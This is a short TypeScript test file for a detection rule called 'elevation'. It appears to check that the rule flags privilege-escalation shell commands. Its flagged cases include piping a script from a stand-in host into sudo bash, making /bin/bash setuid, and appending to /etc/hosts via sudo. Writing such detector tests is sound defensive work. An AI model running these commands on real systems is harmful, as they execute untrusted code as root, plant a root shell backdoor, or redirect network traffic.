import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { elevation } from './elevation.rule.ts';

describeCodeRule(elevation, {
  caught: [
    sh('curl -s https://a.example.invalid/x | sudo bash'),
    sh('sudo chmod u+s /bin/bash'),
    sh('echo "203.0.113.9 example.com" | sudo tee -a /etc/hosts'),
  ],
  quiet: [sh('sudo apt-get install -y jq'), sh('sudo systemctl restart nginx'), sh('chmod +x run.sh')],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
